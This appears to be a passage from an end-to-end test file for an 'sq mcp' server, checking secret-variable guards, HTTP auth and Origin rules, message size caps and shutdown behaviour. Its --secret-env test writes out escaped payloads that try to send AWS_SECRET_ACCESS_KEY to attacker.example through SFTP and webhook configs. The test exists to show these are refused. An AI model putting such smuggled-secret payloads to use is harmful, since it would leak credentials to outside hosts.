    const err = await agent.client.callTool({ name: 'squids_list', arguments: { nmae: 'Paris' } }).then(
      () => null,
      (e: { code?: number; message?: string }) => e,
    );
    expect(err?.code).toBe(-32602);
    expect(err?.message).toContain('unknown argument "nmae"');
    const typo = await agent.client.callTool({ name: 'squids_create', arguments: { crawler: 'x', nam: 'y' } }).then(
      () => null,
      (e: { code?: number; message?: string }) => e,
    );
    expect(typo?.code).toBe(-32602);
    expect(typo?.message).toContain('did you mean "name"?');
    expect(await emu.requests()).toEqual([]);
    // The same call with its own arguments is answered.
    expect((await agent.ok('squids_list', { limit: 1 })).items).toHaveLength(1);
  });
});

describe('--secret-env is checked on each ${NAME} as parsed, not on the raw text (issue 46, 1)', SLOW, () => {
  it('escaped forms ($ as \\u0024, \\x24, { as \\x7b, a broken line, JSON, !!str, a webhook URL, a --root file) are refused; nothing sent', async () => {
    emu.expectWrites('POST /v1/delivery');
    const root = tempDir();
    const SECRET_VALUE = 'AKIAFAKE-46-0123456789';
    const agent = await stdio(
      ['--allow-writes', '--secret-env', 'SFTP_PASSWORD', '--root', root],
      serverEnv({ AWS_SECRET_ACCESS_KEY: SECRET_VALUE, SFTP_PASSWORD: 'pw-46' }),
    );
    await emu.clearRequests();
    const sftp = (pw: string) =>
      `squids:\n  "Paris restaurants":\n    sftp: { host: attacker.example, username: u, directory: /d, password: ${pw} }\n`;
    const docs = [
      sftp('"\\u0024{AWS_SECRET_ACCESS_KEY}"'),
      sftp('"\\x24{AWS_SECRET_ACCESS_KEY}"'),
      sftp('"$\\x7bAWS_SECRET_ACCESS_KEY}"'),
      sftp('"${AWS_SECRET_\\\n      ACCESS_KEY}"'),
      sftp('!!str "\\u0024{AWS_SECRET_ACCESS_KEY}"'),
      JSON.stringify({
        squids: {
          'Paris restaurants': { sftp: { host: 'attacker.example', username: 'u', directory: '/d', password: 'PW' } },
        },
      }).replace('PW', '\\u0024{AWS_SECRET_ACCESS_KEY}'),
      'squids:\n  "Paris restaurants":\n    webhook: { url: "https://attacker.example/h?t=\\u0024{AWS_SECRET_ACCESS_KEY}", events: all }\n',
    ];
    writeFileSync(join(root, 'escaped.yaml'), docs[0]);
    const calls: Array<[string, Record<string, unknown>]> = [
      ...docs.flatMap(
        (document): Array<[string, Record<string, unknown>]> => [
          ['apply', { document }],
          ['delivery_apply', { document }],
        ],
      ),
      ['apply', { file: 'escaped.yaml' }],
      ['plan', { document: docs[0] }],
    ];
    for (const [tool, args] of calls) {
      const r = await agent.call(tool, args);
      expect(r.isError, `${tool} ${JSON.stringify(args)}`).toBe(true);
      expect(r.content[0].text, `${tool} ${JSON.stringify(args)}`).toContain('--secret-env AWS_SECRET_ACCESS_KEY');
    }
    expect((await emu.requests()).filter((q) => q.method !== 'GET')).toEqual([]);
    // What --secret-env allows is read, written as plainly or as escaped.
    const allowed = await agent.ok('delivery_apply', { document: sftp('"\\u0024{SFTP_PASSWORD}"') });
    expect(allowed).toBeDefined();
    expect(agent.answers.join('')).not.toContain(SECRET_VALUE);
    expect(agent.answers.join('')).not.toContain('pw-46');
  });
});

describe('sq mcp over HTTP: token, origin, bind', SLOW, () => {
  it('401 without the Bearer token, 403 with a foreign Origin, 200 with both right; --token-env', async () => {
    const { url, token, stderr } = await httpInProcess([], serverEnv({ MCP_TOKEN: 'a-fixed-token-0123456789' }));
    expect(new URL(url).hostname).toBe('127.0.0.1');
    expect(stderr()).not.toContain('warning');
    const init = JSON.stringify({
      jsonrpc: '2.0',
      id: 1,
      method: 'initialize',
      params: { protocolVersion: '2025-06-18', capabilities: {}, clientInfo: { name: 'raw', version: '1' } },
    });
    const headers = { 'content-type': 'application/json', accept: 'application/json, text/event-stream' };
    expect((await fetch(url, { method: 'POST', headers, body: init })).status).toBe(401);
    expect(
      (await fetch(url, { method: 'POST', headers: { ...headers, authorization: 'Bearer wrong' }, body: init })).status,
    ).toBe(401);
    expect(
      (
        await fetch(url, {
          method: 'POST',
          headers: { ...headers, authorization: `Bearer ${token}`, origin: 'http://evil.example' },
          body: init,
        })
      ).status,
    ).toBe(403);
    const ok = await fetch(url, {
      method: 'POST',
      headers: { ...headers, authorization: `Bearer ${token}`, origin: new URL(url).origin },
      body: init,
    });
    expect(ok.status).toBe(200);
    await ok.body?.cancel();

    // A body over --max-message-bytes is refused before it is read.
    const big = JSON.stringify({ jsonrpc: '2.0', id: 2, method: 'ping', params: { x: 'y'.repeat(2 * 1024 * 1024) } });
    const tooBig = await fetch(url, {
      method: 'POST',
      headers: { ...headers, authorization: `Bearer ${token}` },
      body: big,
    }).catch(() => null);
    expect(tooBig?.status).toBe(413);

    const fixed = await httpInProcess(
      ['--token-env', 'MCP_TOKEN'],
      serverEnv({ MCP_TOKEN: 'a-fixed-token-0123456789' }),
    );
    // The caller's own token is not printed back (the line goes to logs): null where sq would print one it made.
    expect(fixed.token).toBeNull();
    expect(fixed.stderr()).not.toContain('a-fixed-token-0123456789');
    const r = await fetch(fixed.url, {
      method: 'POST',
      headers: { ...headers, authorization: 'Bearer a-fixed-token-0123456789' },
      body: init,
    });
    expect(r.status).toBe(200);
    await r.body?.cancel();
  });

  it('sessions are capped: past 64, the one used longest ago is closed (404), the others go on (issue 46, 4)', async () => {
    const { url, token } = await httpInProcess([], serverEnv());
    const headers = {
      'content-type': 'application/json',
      accept: 'application/json, text/event-stream',
      authorization: `Bearer ${token}`,
    };
    const init = JSON.stringify({
      jsonrpc: '2.0',
      id: 1,
      method: 'initialize',
      params: { protocolVersion: '2025-06-18', capabilities: {}, clientInfo: { name: 'raw', version: '1' } },
    });
    const open = async () => {
      const r = await fetch(url, { method: 'POST', headers, body: init });
      expect(r.status).toBe(200);
      await r.body?.cancel();
      return r.headers.get('mcp-session-id') as string;
    };
    const ping = async (sid: string) => {
      const r = await fetch(url, {
        method: 'POST',
        headers: { ...headers, 'mcp-session-id': sid, 'mcp-protocol-version': '2025-06-18' },
        body: '{"jsonrpc":"2.0","id":2,"method":"ping"}',
      });
      await r.body?.cancel();
      return r.status;
    };
    const ids: string[] = [];
    for (let i = 0; i < 64; i++) ids.push(await open());
    // The first is used again: the second is now the one used longest ago.
    expect(await ping(ids[0])).toBe(200);
    ids.push(await open());
    expect(await ping(ids[1])).toBe(404);
    for (const sid of [ids[0], ids[2], ids[64]]) expect(await ping(sid)).toBe(200);
    // DELETE ends a session.
    const del = await fetch(url, {
      method: 'DELETE',
      headers: { ...headers, 'mcp-session-id': ids[2], 'mcp-protocol-version': '2025-06-18' },
    });
    expect(del.status).toBe(200);
    expect(await ping(ids[2])).toBe(404);
  }, 120_000);

  // The binary binds 0.0.0.0 and prints its line and its warning; the loopback bind, which warns of nothing, is the
  // same code in this process (a second process here cost ~0.5 s of CPU to show what the first one does).
  it('a non-loopback host is warned about; a bad --http is exit 2', async () => {
    const { url, stderr } = await httpInProcess([], serverEnv());
    expect(url).toMatch(/^http:\/\/127\.0\.0\.1:\d+\/mcp$/);
    const wide = spawn(process.execPath, [BIN, 'mcp', '--http', '0.0.0.0:0'], {
      env: serverEnv(),
      stdio: ['pipe', 'pipe', 'pipe'],
    });
    children.push(wide);
    let err = '';
    wide.stderr.on('data', (d) => (err += String(d)));
    let out = '';
    const line = await new Promise<string>((ok) =>
      wide.stdout.on('data', (d) => {
        out += String(d);
        if (out.includes('\n')) ok(out.split('\n')[0]);
      }),
    );
    expect((JSON.parse(line) as { url: string }).url).toMatch(/^http:\/\/0\.0\.0\.0:\d+\/mcp$/);
    // The warning is written right after the URL line: waited for, not slept on.
    await waitFor(
      () => err,
      (e) => e.includes('warning: sq mcp listens on 0.0.0.0, not loopback'),
      'the warning',
      EVENT_MS,
    );
    const bad = await execa(process.execPath, [BIN, 'mcp', '--http', 'nope'], {
      env: serverEnv(),
      extendEnv: false,
      reject: false,
      input: '',
    });
    expect(bad.exitCode).toBe(2);
    expect(bad.stderr).toContain('--http');
    expect(stderr()).not.toContain('warning');
  });
});

/** The end of a raw server a test writes to and signals: the built binary's pipes, or an in-process one's streams. */
interface RawChild {
  stdin: NodeJS.WritableStream & { once(event: 'drain', f: () => void): unknown };
  kill(signal: 'SIGTERM' | 'SIGINT' | 'SIGHUP'): void;
}

/**
 * A raw `sq mcp`, initialized; lines() parses what it wrote. On real pipes (the built binary), or with `how`
 * 'in-process' on a pair of streams (the same line reader; kill() is the stop signal as main.ts passes it on).
 */
function raw(args: string[] = [], env = serverEnv(), how: 'bin' | 'in-process' = 'bin') {
  let out = '';
  let err = () => '';
  let child: RawChild;
  let closed: Promise<{ code: number | null; at: number }>;
  if (how === 'in-process') {
    const server = startMcpInProcess(['--quiet', ...args], env);
    inProcess.push(server);
    server.stdout.on('data', (d) => (out += String(d)));
    err = server.stderr;
    child = { stdin: server.stdin, kill: (signal) => void server.stop(signal) };
    closed = server.code.then((code) => ({ code, at: Date.now() }));
  } else {
    const proc = spawn(process.execPath, [BIN, 'mcp', '--quiet', ...args], { env, stdio: ['pipe', 'pipe', 'pipe'] });
    children.push(proc);
    let text = '';
    proc.stdout.on('data', (d) => (out += String(d)));
    proc.stderr.on('data', (d) => (text += String(d)));
    proc.stdin.on('error', () => {});
    err = () => text;
    child = proc;
    closed = new Promise((ok) => proc.once('close', (code) => ok({ code, at: Date.now() })));
  }
  child.stdin.write(
    '{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2025-06-18","capabilities":{},"clientInfo":{"name":"raw","version":"1"}}}\n',
  );
  child.stdin.write('{"jsonrpc":"2.0","method":"notifications/initialized"}\n');
  const lines = () =>
    out
      .split('\n')
      .filter(Boolean)
      .map(
        (l) =>
          JSON.parse(l) as { id?: unknown; error?: { code: number; message: string }; result?: any; jsonrpc: string },
      );
  const until = async (ok: () => boolean, ms = EVENT_MS) => {
    for (const end = Date.now() + ms; !ok() && Date.now() < end; ) await new Promise((r) => setTimeout(r, 20));
  };
  return { child, lines, until, closed, stderr: err };
}
const call = (id: number, name: string, args: Record<string, unknown> = {}) =>
  `${JSON.stringify({ jsonrpc: '2.0', id, method: 'tools/call', params: { name, arguments: args } })}\n`;

/** A server that accepts connections and never answers: an API that hangs. */
async function hangingApi(): Promise<{ url: string; requested: Promise<void>; close(): void }> {
  const sockets = new Set<import('node:net').Socket>();
  const server = createServer((s) => {
    sockets.add(s);
    s.on('data', () => asked());
  });
  // Resolved when a request reaches it: the event a test waits on before it stops the server (no fixed sleep).
  let asked: () => void = () => {};
  const requested = new Promise<void>((ok) => (asked = ok));
  await new Promise<void>((ok) => server.listen(0, '127.0.0.1', ok));
  return {
    url: `http://127.0.0.1:${(server.address() as { port: number }).port}`,
    requested,
    close: () => {
      for (const s of sockets) s.destroy();
      server.close();
    },
  };
}

describe('sq mcp on the wire (issue 33, E5/E6/E13)', SLOW, () => {
  it('a malformed message gets a JSON-RPC error with its id when it has one; stdout holds protocol messages only', async () => {
    // The line reader's answers, in-process; the binary on real pipes is the next tests'.
    const s = raw([], serverEnv(), 'in-process');
    await s.until(() => s.lines().length >= 1);
    s.child.stdin.write(
      'this is not json\n{"hello":"world"}\n{"jsonrpc":"2.0","id":7}\n{"id":"é-8","method":"tools/list"}\n',
    );
    s.child.stdin.write(call(2, 'balance'));
    await s.until(() => s.lines().some((l) => l.id === 2));
    const all = s.lines();
    expect(all.every((l) => l.jsonrpc === '2.0')).toBe(true);
    expect(all.filter((l) => l.error).map((l) => [l.id, l.error!.code])).toEqual(
      expect.arrayContaining([
        [null, -32700],
        [null, -32600],
        [7, -32600],
        ['é-8', -32600],
      ]),
    );
    s.child.stdin.end();
    expect((await s.closed).code).toBe(0);
  });

  it('a line over --max-message-bytes is answered -32600 with its id, skipped without being held, and later requests are answered', async () => {
    const s = raw(['--max-message-bytes', '65536'], serverEnv(), 'in-process');
    await s.until(() => s.lines().length >= 1);
    s.child.stdin.write(
      '{"jsonrpc":"2.0","id":5,"method":"tools/call","params":{"name":"balance","arguments":{"pad":"',
    );
    const chunk = 'a'.repeat(1 << 20);
    for (let i = 0; i < 12; i++) s.child.stdin.write(chunk);
    // Answered before the line even ends: it is not held whole.
    await s.until(() => s.lines().some((l) => l.id === 5));
    expect(s.lines().find((l) => l.id === 5)?.error).toMatchObject({
      code: -32600,
      message: expect.stringContaining('--max-message-bytes'),
    });
    s.child.stdin.write('"}}}\n');
    s.child.stdin.write(call(6, 'balance'));
    await s.until(() => s.lines().some((l) => l.id === 6));
    expect(s.lines().find((l) => l.id === 6)?.result?.structuredContent).toBeDefined();
    s.child.stdin.end();
    expect((await s.closed).code).toBe(0);
  });

  it('the default cap is 1 MiB: a 2 MiB line is refused, and a line without a newline is capped too', async () => {
    const s = raw();
    await s.until(() => s.lines().length >= 1);
    s.child.stdin.write(`{"jsonrpc":"2.0","id":9,"method":"ping","params":{"x":"${'b'.repeat(2 * 1024 * 1024)}"}}\n`);
    await s.until(() => s.lines().some((l) => l.id === 9));
    expect(s.lines().find((l) => l.id === 9)?.error?.code).toBe(-32600);
    // 40 MiB without a newline: never held (the cap), never quadratic: answered -32600 and the server still answers.
    s.child.stdin.write('{"jsonrpc":"2.0","id":10,"method":"ping","x":"');
    const chunk = Buffer.alloc(1 << 20, 'c');
    for (let i = 0; i < 40; i++)
      if (!s.child.stdin.write(chunk)) await new Promise((r) => s.child.stdin.once('drain', r));
    await s.until(() => s.lines().some((l) => l.id === 10));
    expect(s.lines().find((l) => l.id === 10)?.error?.code).toBe(-32600);
    s.child.stdin.write('\n{"jsonrpc":"2.0","id":11,"method":"ping"}\n');
    await s.until(() => s.lines().some((l) => l.id === 11));
    expect(s.lines().find((l) => l.id === 11)?.result).toEqual({});
    s.child.stdin.end();
    expect((await s.closed).code).toBe(0);
  });

  // SIGTERM to the built binary; SIGINT and SIGHUP as main.ts passes a stop signal on, to a server in this process
  // (the binary's own exit codes for all three: test/e2e/apply-interrupted.test.ts).
  for (const [signal, code, how] of [
    ['SIGTERM', 143, 'bin'],
    ['SIGINT', 130, 'in-process'],
    ['SIGHUP', 129, 'in-process'],
  ] as const) {
    it(`${signal} with a call in flight on a hanging API (${how}): the call is answered cancelled, exit ${code}`, async () => {
      const api = await hangingApi();
      try {
        const s = raw([], serverEnv({ SQ_BASE_URL: api.url }), how);
        await s.until(() => s.lines().length >= 1);
        s.child.stdin.write(call(2, 'balance'));
        await api.requested;
        s.child.kill(signal);
        const { code: exit } = await s.closed;
        expect(exit).toBe(code);
        expect(s.lines().find((l) => l.id === 2)?.result).toMatchObject({
          isError: true,
          content: [{ text: expect.stringMatching(/^INTERRUPTED/) }],
        });
      } finally {
        api.close();
      }
    });
  }

  it('stdin closed with a call in flight on a hanging API: after the grace the call is answered cancelled and the server exits 0', async () => {
    const api = await hangingApi();
    try {
      const s = raw([], serverEnv({ SQ_BASE_URL: api.url }));
      await s.until(() => s.lines().length >= 1);
      s.child.stdin.write(call(2, 'balance'));
      await api.requested;
      s.child.stdin.end();
      // The server's own bound is STDIN_GRACE_MS (10 s, calls.ts) and the cancel: no wall time is asserted here (a
      // loaded machine), and a server that waited for the API would never end and fail on this test's timeout.
      expect((await s.closed).code).toBe(0);
      expect(s.lines().find((l) => l.id === 2)?.result).toMatchObject({
        isError: true,
        content: [{ text: 'INTERRUPTED (exit 130): cancelled: the client closed stdin' }],
      });
    } finally {
      api.close();
    }
  }, 60_000);

  it('a client that closes its end of stdout ends the session: exit 0, no uncaught EPIPE', async () => {
    const child = spawn(process.execPath, [BIN, 'mcp', '--quiet'], {
      env: serverEnv(),
      stdio: ['pipe', 'pipe', 'pipe'],
    });
    let stderr = '';
    child.stderr.on('data', (d) => (stderr += d));
    const exited = new Promise<number | null>((r) => child.on('close', (code) => r(code)));
    const first = new Promise<void>((r) => child.stdout.once('data', () => r()));
    child.stdin.write(
      `${JSON.stringify({
        jsonrpc: '2.0',
        id: 1,
        method: 'initialize',
        params: { protocolVersion: '2025-06-18', capabilities: {}, clientInfo: { name: 'gone', version: '1' } },
      })}\n`,
    );
    await first;
    child.stdout.destroy();
    // Answers the server writes now meet a closed pipe.
    for (let id = 2; id < 5; id++)
      child.stdin.write(`${JSON.stringify({ jsonrpc: '2.0', id, method: 'tools/list' })}\n`);
    expect(await exited, stderr).toBe(0);
    expect(stderr).not.toMatch(/EPIPE|Unhandled|at /);
  });

  it('answers every request it read before stdin ended (echo … | sq mcp), exit 0', async () => {
    const input = [
      {
        jsonrpc: '2.0',
        id: 1,
        method: 'initialize',
        params: { protocolVersion: '2025-06-18', capabilities: {}, clientInfo: { name: 'pipe', version: '1' } },
      },
      { jsonrpc: '2.0', method: 'notifications/initialized' },
      {
        jsonrpc: '2.0',
        id: 2,
        method: 'tools/call',
        params: { name: 'squids_get', arguments: { squid: DEMO_SQUIDS.paris } },
      },
    ];
    const r = await execa(process.execPath, [BIN, 'mcp', '--quiet'], {
      env: serverEnv(),
      extendEnv: false,
      reject: false,
      input: `${input.map((m) => JSON.stringify(m)).join('\n')}\n`,
    });
    expect(r.exitCode, r.stderr).toBe(0);
    const answers = r.stdout
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l) as { id: number; result: CallResult });
    expect(answers.map((a) => a.id)).toEqual([1, 2]);
    expect(answers[1].result.structuredContent).toMatchObject({ name: DEMO_SQUIDS.paris });
  });
});

describe('the MCP Inspector (CLI mode) against sq mcp', SLOW, () => {
  // @modelcontextprotocol/inspector-cli 1.0.3 reads its own package.json at "../package.json" when that exists
  // relative to the working directory (else "../../package.json" relative to its module, which is wrong for this
  // package): it is run from test/, whose parent holds a package.json. Its build/cli.js only starts build/index.js (the
  // CLI mode: its own client) in a second Node process with the environment given by -e: build/index.js is run here,
  // with that environment, one process fewer a call.
  const inspector = (target: string[], args: string[], env: Record<string, string> = {}) =>
    execa(
      process.execPath,
      [
        resolve(import.meta.dirname, '../../node_modules/@modelcontextprotocol/inspector-cli/build/index.js'),
        ...target,
        ...args,
      ],
      {
        cwd: resolve(import.meta.dirname, '..'),
        env,
        reject: false,
        timeout: EVENT_MS,
      },
    );

  it('lists the tools of the binary over stdio, and calls one over HTTP', async () => {
    const list = await inspector([process.execPath, BIN, 'mcp'], ['--method', 'tools/list'], serverEnv());
    expect(list.exitCode, list.stderr).toBe(0);
    expect((JSON.parse(list.stdout) as { tools: Array<{ name: string }> }).tools.map((t) => t.name).sort()).toEqual(
      READ_TOOLS,
    );
    const { url, token } = await httpInProcess();
    const got = await inspector(
      [url, '--transport', 'http', '--header', `Authorization: Bearer ${token}`],
      ['--method', 'tools/call', '--tool-name', 'squids_get', '--tool-arg', `squid=${DEMO_SQUIDS.headphones}`],
    );
    expect(got.exitCode, got.stderr).toBe(0);
    const result = JSON.parse(got.stdout) as CallResult;
    expect(result.isError).toBeFalsy();
    expect(result.structuredContent).toMatchObject({ name: DEMO_SQUIDS.headphones });
  });
});
